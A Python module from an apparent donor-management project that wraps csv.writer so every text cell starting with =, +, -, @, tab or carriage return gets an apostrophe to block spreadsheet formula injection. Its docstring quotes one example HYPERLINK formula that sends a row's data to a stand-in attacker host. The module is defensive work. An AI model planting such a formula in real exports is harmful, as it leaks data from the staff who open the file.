"""CSV for every export (staff gifts, rosters, open books): `csv_writer` is the only way Haven writes
CSV (tests/core/test_csv.py fails on any other `csv.writer` in the project), and it makes every cell
formula-safe, so no export can forget a column.

A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return, after which some
strip the blank) as a formula: `=HYPERLINK("http://evil.example/?"&A1, "Click")` in a donor's name
would leak the row when staff open the file. OWASP's advice, applied here: such a cell gets a
leading apostrophe, which spreadsheets show as text and do not display."""

import csv
import datetime
from decimal import Decimal

CSV_FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value) -> str:
    """A cell a spreadsheet will not run as a formula: text starting with = + - @ (or a tab or carriage
    return) gets a leading apostrophe."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(CSV_FORMULA_PREFIXES) else text


def _cell(value):
    # Numbers, dates and booleans are written as the csv module writes them; everything else is text
    # and passes csv_safe.
    if isinstance(value, bool | int | float | Decimal | datetime.date):
        return value
    return csv_safe(value)


class SafeCsvWriter:
    """`csv.writer` with every cell passed through `csv_safe` (numbers and dates as they are)."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row):
        return self._writer.writerow([_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **options) -> SafeCsvWriter:
    """The one CSV writer of the project (same arguments as `csv.writer`)."""
    return SafeCsvWriter(stream, **options)
